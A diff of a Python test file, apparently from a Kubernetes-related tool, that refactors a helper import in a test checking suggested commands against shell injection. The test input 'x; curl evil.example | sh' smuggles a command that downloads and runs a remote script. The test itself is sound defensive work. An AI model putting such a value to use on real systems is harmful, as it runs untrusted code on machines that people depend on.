@@ -16,6 +16,7 @@ from seatrial.core.holds import HoldCode, hold
 from seatrial.core.model.deployers import FOLLOWING, Follower, Stop
 from seatrial.core.text.commands import filled
 from seatrial.core.words import explain
+from tests.core.explained import needs
 
 SOURCE = Path(seatrial.__file__).parent
 COMMAND = re.compile(r"(\$ )?(kubectl|helm|argocd|flux|oc|seatrial|git) ")
@@ -45,7 +46,7 @@ def test_no_hold_has_a_command_that_a_hostile_name_could_end(code: HoldCode) -> 
 
     def said(value: str) -> list[str]:
         # What is made of words already is quoted by those who make it.
-        params = dict.fromkeys(explain.needs(code), value) | {"names": "n1", "whom": "", "command": "c", "get": "g"}
+        params = dict.fromkeys(needs(code), value) | {"names": "n1", "whom": "", "command": "c", "get": "g"}
         return [each for each in spans(explain.next_step(hold(value, code, params))) if COMMAND.match(each)]
 
     plain, hostile = said("harmless"), said("x; curl evil.example | sh")
